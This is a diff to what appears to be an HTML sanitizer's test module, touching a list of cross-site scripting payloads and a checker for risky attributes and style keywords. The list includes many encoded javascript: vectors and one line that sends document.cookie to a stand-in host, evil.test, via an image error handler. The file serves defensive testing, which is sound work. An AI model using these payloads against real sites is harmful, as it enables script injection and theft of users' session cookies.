@@ -27,8 +27,8 @@ PAYLOADS = [
     "<IMG SRC=JaVaScRiPt:alert('XSS')>",
     "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
     '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
-    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
     "<IMG SRC=\"jav\tascript:alert('XSS');\">",
     "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
     "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
@@ -87,13 +87,13 @@ PAYLOADS = [
     '<img srcset="https://tracker.test/a.png 1x">',
     '<a href="https://ok.test/" ping="https://tracker.test/ping">x</a>',
     "<template><script>alert(1)</script></template>",
-    '<div xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">x</a></div>',
+    '<div xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)">x</a></div>',  # noqa: E501
     "<isindex action=javascript:alert(1) type=image>",
     "<plaintext><script>alert(1)</script>",
     "<xmp><script>alert(1)</script></xmp>",
     '"><script>alert(document.cookie)</script>',
     "<img src='x' onerror='fetch(\"https://evil.test/\"+document.cookie)'>",
-    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>',  # noqa: E501
 ]
 
 FORBIDDEN_TAGS = {
@@ -141,8 +141,8 @@ def script_paths(html: str, remote_images: bool = False) -> list[str]:
                     problems.append(f"remote image {value!r}")
                 if name in ("srcset", "ping", "action", "formaction", "background"):
                     problems.append(f"{name} kept")
-            if name == "style" and ("url(" in squashed or "expression" in squashed
-                                    or "behavior" in squashed or "binding" in squashed):  # fmt: skip
+            risky = ("url(", "expression", "behavior", "binding")
+            if name == "style" and any(word in squashed for word in risky):
                 problems.append(f"style {value!r}")
     return problems
 
